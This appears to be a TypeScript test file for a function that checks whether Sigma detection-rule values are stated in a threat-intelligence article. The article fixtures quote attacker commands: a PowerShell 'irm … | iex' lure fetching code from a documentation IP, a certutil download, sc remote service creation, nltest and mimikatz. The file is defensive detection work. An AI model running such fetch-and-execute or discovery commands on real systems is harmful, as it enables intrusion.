import type { ExtractionResult } from '@huntforge/contracts';
import { fidelityCheck } from './sigma-stages';
import type { PipelineArticle } from './ports';

const article = (content: string): PipelineArticle => ({ id: 1, title: 'Intrusion', url: 'https://blog.example.org/a', content, huntScore: 5, publishedAt: null });
// Only the observables are read; the rest of the result does not bear on fidelity.
const noObservables = { observables: [] } as unknown as ExtractionResult;

describe('fidelityCheck', () => {
  it('accepts values the article states, and the .exe of a program the article runs by its bare name', () => {
    const text = 'The actor ran sc \\\\FS02 create WinSvcHost and then nltest /domain_trusts.';
    expect(fidelityCheck(['\\sc.exe', '\\nltest.exe', 'WinSvcHost', '/domain_trusts'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
  });

  it('accepts both PowerShell hosts for a rule on PowerShell code the article shows', () => {
    expect(fidelityCheck(['\\powershell.exe', '\\pwsh.exe', 'irm '], article("The lure has the user paste irm 'https://203.0.113.7/a' | iex."), noObservables).ok).toBe(true);
    expect(fidelityCheck(['\\pwsh.exe'], article('The actor ran cmd.exe /c whoami.'), noObservables).ok).toBe(false);
  });

  it('flags a value the article does not state, and a program name found only inside another word', () => {
    const text = 'The actor ran describe.ps1 from a scheduled task.';
    expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], article(text), noObservables)).toEqual({ ok: false, unsupported_values: ['\\sc.exe', '\\mimikatz.exe'] });
  });
});

describe('fidelityCheck on defanged articles', () => {
  it('accepts the refanged form of a defanged value and the single-% form of a batch variable', () => {
    const text = 'certutil -urlcache -f hxxp://203.0.113[.]5/a.txt %%APPDATA%%\\a.txt';
    expect(fidelityCheck(['http://', '%APPDATA%\\a.txt', '203.0.113.5'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
  });
});
